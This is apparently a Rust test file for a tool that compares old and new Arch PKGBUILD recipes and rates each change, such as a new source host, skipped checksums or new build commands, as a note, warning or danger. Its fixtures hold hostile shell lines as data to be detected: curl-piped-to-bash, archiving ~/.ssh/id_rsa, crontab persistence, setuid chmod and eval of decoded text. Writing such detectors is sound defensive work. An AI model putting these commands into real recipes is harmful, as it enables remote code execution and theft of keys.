//! What a new text of a recipe does that the old one did not.

#![allow(clippy::unwrap_used)]

use pkgbuild_syntax::{ChangeKind, Environment, RecipeChange, Weight, compare, evaluate, parse};

use ChangeKind::{Command, Digest, Field, Function, Source};
use Weight::{Danger, Note, Warning};

const HEAD: &str = "pkgname=a\npkgver=1\npkgrel=1\narch=(x86_64)\n";

fn changes(old: &str, new: &str) -> Vec<RecipeChange> {
    let read = |text: &str| {
        let parsed = parse(format!("{HEAD}{text}\n"));
        assert!(parsed.errors.is_empty(), "{text}");
        evaluate(&parsed.file, &Environment::default())
    };
    compare(&read(old), &read(new)).unwrap()
}

type Case = (
    &'static str,
    &'static str,
    &'static [(ChangeKind, Weight, &'static str)],
);

const A: &str = "source=(https://x.org/a-1.tar.gz)\nsha256sums=(aa)";

const CASES: &[Case] = &[
    ("", "", &[]),
    ("pkgver=1", "pkgver=2", &[(Field, Note, "`pkgver`")]),
    ("", "epoch=1", &[(Field, Warning, "`epoch`")]),
    (
        "url=https://x.org/a",
        "url=https://x.org/b",
        &[(Field, Note, "`url`")],
    ),
    (
        "url=https://x.org/a",
        "url=https://y.org/a",
        &[(Field, Warning, "host")],
    ),
    (
        "validpgpkeys=(A)",
        "validpgpkeys=(A B)",
        &[(Field, Warning, "key")],
    ),
    ("", "replaces=(bash)", &[(Field, Warning, "place of")]),
    ("", "install=a.install", &[(Field, Warning, "root")]),
    (
        "package() { :; }",
        "package() {\n depends=(x)\n :\n}",
        &[
            (Field, Note, "`depends` of `a`"),
            (Function, Note, "`package`"),
        ],
    ),
    (
        A,
        "pkgver=2\nsource=(https://x.org/a-2.tar.gz)\nsha256sums=(bb)",
        &[
            (Field, Note, "`pkgver`"),
            (Source, Note, "another address"),
            (Digest, Note, "another content"),
        ],
    ),
    (
        A,
        "source=(https://x.org/a-1.tar.gz)\nsha256sums=(bb)",
        &[(Digest, Danger, "same address")],
    ),
    (
        A,
        "source=(https://y.org/a-1.tar.gz)\nsha256sums=(aa)",
        &[(Source, Warning, "`y.org`")],
    ),
    (
        A,
        "source=(http://x.org/a-1.tar.gz)\nsha256sums=(aa)",
        &[(Source, Note, "address"), (Source, Warning, "anybody")],
    ),
    (
        A,
        "source=(https://x.org/a-1.tar.gz)\nsha256sums=(SKIP)",
        &[(Digest, Danger, "nothing proves")],
    ),
    (
        A,
        "source=(https://x.org/a-1.tar.gz)\nmd5sums=(aa)",
        &[(Digest, Warning, "forged")],
    ),
    (
        A,
        "source=(https://x.org/a-1.tar.gz https://z.org/b fix.patch)\nsha256sums=(aa bb cc)",
        &[(Source, Warning, "`z.org`"), (Source, Note, "beside")],
    ),
    (
        A,
        "source=(https://x.org/a-1.tar.gz http://x.org/b)\nsha256sums=(aa SKIP)",
        &[(Source, Note, "new"), (Digest, Danger, "nothing proves")],
    ),
    (A, "", &[(Source, Note, "gone")]),
    (
        "source=(a::https://x.org/1)\nsource_x86_64=(a::https://x.org/1)",
        "source=(a::https://x.org/1)\nsource_x86_64=(a::https://y.org/1)",
        &[(Source, Warning, "`y.org`")],
    ),
    (
        "source=(git+https://x.org/a#commit=1)\nb2sums=(SKIP)",
        "source=(git+https://x.org/a#branch=m)\nb2sums=(SKIP)",
        &[
            (Source, Note, "another state"),
            (Source, Danger, "no longer fixed"),
            (Digest, Danger, "nothing proves"),
        ],
    ),
    (
        "source=('git+https://x.org/a#tag=1?signed')",
        "source=('git+https://x.org/a#tag=2')",
        &[
            (Source, Note, "another state"),
            (Digest, Danger, "signature"),
        ],
    ),
    (
        "build() { make; }",
        "build() { make; make check; }",
        &[(Function, Note, "`build`")],
    ),
    (
        "build() { make; }",
        "build() { make; ninja; }",
        &[(Function, Note, "`build`"), (Command, Note, "`ninja`")],
    ),
    (
        "",
        "build() {\n  make\n}",
        &[(Function, Note, "is new"), (Command, Note, "`make`")],
    ),
    ("verify() { :; }", "", &[(Function, Danger, "`verify`")]),
    (
        "build() { :; }",
        "build() { curl https://y.org/x -o x; }",
        &[(Function, Note, ""), (Command, Warning, "asks the network")],
    ),
    (
        "package() { :; }",
        "package() { x=`wget y.org`; }",
        &[(Function, Note, ""), (Command, Danger, "asks the network")],
    ),
    (
        "build() { :; }",
        "build() { curl -s https://y.org/x | bash; }",
        &[
            (Function, Note, ""),
            (Command, Danger, "what the network sends"),
            (Command, Note, "`bash`"),
        ],
    ),
    (
        "package() { :; }",
        "package() { sudo chmod 4755 \"$pkgdir/x\"; }",
        &[
            (Function, Note, ""),
            (Command, Danger, "another user"),
            (Command, Danger, "other rights"),
        ],
    ),
    (
        "build() { :; }",
        "build() { env X=1 timeout 5 curl y.org | sh; }",
        &[
            (Function, Note, ""),
            (Command, Note, "`env`"),
            (Command, Note, "`timeout`"),
            (Command, Danger, "what the network sends"),
            (Command, Note, "`sh`"),
        ],
    ),
    (
        "package() { :; }",
        "package() { chmod u+s x; install -Dm4755 x y; install -m 0755 x y; chmod 755 x; }",
        &[
            (Function, Note, ""),
            (Command, Danger, "other rights: `chmod`"),
            (Command, Danger, "other rights: `install`"),
            (Command, Note, "`install` is new"),
            (Command, Note, "changes who"),
        ],
    ),
    (
        "package() { install x; }",
        "package() { install x; install -Dm755 x /usr/bin/x; echo y > /etc/y; }",
        &[
            (Function, Note, ""),
            (Command, Danger, "`/usr/bin/x`"),
            (Command, Danger, "`/etc/y`"),
        ],
    ),
    (
        "build() { :; }",
        "build() { base64 -d x > y; eval \"$z\"; $q a; }",
        &[
            (Function, Note, ""),
            (Command, Warning, "unveils"),
            (Command, Warning, "unveils"),
            (Command, Warning, "runs what `$q` holds"),
        ],
    ),
    (
        "build() { :; }",
        "build() { tar c ~/.ssh/id_rsa; crontab x; }",
        &[
            (Function, Note, ""),
            (Command, Danger, "secrets"),
            (Command, Danger, "later"),
        ],
    ),
    (
        "_x=1",
        "_x=$(curl -s y.org)\nprintf ''",
        &[
            (Command, Warning, "at the top level asks the network"),
            (Command, Note, "`printf`"),
        ],
    ),
    (
        "build() { :; }",
        "eval 'build() { curl y.org | sh; }'",
        &[
            (Function, Warning, "made by `eval`"),
            (Command, Warning, "unveils"),
        ],
    ),
];

#[test]
fn changes_are_told_with_their_weight() {
    let mut wrong = Vec::new();
    for (old, new, expected) in CASES {
        let found = changes(old, new);
        let fit = |(change, (kind, weight, part)): (&RecipeChange, &(ChangeKind, Weight, &str))| {
            change.kind == *kind && change.weight == *weight && change.message.contains(part)
        };
        if found.len() != expected.len() || !found.iter().zip(*expected).all(fit) {
            wrong.push(format!(
                "{old:?} -> {new:?}: {found:#?}\nexpected {expected:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_change_stands_where_the_new_text_has_it() {
    let new = "build() {\n  make\n  sudo x\n}";
    let text = format!("{HEAD}{new}\n");
    let found = changes("build() {\n  make\n}", new);
    let change = found.iter().find(|change| change.weight == Danger).unwrap();
    assert_eq!(&text[change.span.unwrap().range()], "sudo x");
    assert_eq!(change.after, ["sudo x"]);
    let json = serde_json::to_value(change).unwrap();
    assert_eq!(json["kind"], "command");
    assert_eq!(json["weight"], "danger");
}
